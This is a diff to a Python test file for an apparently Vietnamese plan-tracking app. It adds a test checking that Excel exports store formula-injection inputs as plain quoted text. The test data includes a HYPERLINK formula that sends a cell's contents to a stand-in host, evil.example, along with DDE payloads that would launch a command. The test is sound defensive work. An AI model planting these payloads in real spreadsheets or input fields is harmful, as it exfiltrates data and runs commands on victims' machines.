@@ -91,6 +91,31 @@ def test_an_agency_export_holds_only_its_rows(reported_plan, agency_b):
     assert book.sheetnames == [INFO_SHEET, "I", "II", "III.A"]
 
 
+@pytest.mark.parametrize("hostile", [
+    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+])
+def test_excel_formula_injection_cells_are_written_as_text(reported_plan, hostile):
+    from theodoi.tracking.models import Task
+
+    Task.objects.filter(plan=reported_plan, code="I.1").update(name=hostile, result=hostile)
+    reported_plan.title = hostile
+    reported_plan.save(update_fields=["title"])
+    book = load_workbook(BytesIO(exported(reported_plan)))
+    ws = book["I"]
+    cols = header_index(ws)
+    for column in ("name", "result"):
+        cell = ws.cell(row=2, column=cols[column])
+        assert (cell.value, cell.data_type) == (hostile, "s")
+        assert cell.quotePrefix
+    title = book[INFO_SHEET]["B1"]
+    assert (title.value, title.data_type) == (hostile, "s")
+
+
 def test_sheet_names_follow_excel_rules():
     taken: set[str] = set()
     assert sheet_title("", taken) == "Chung"
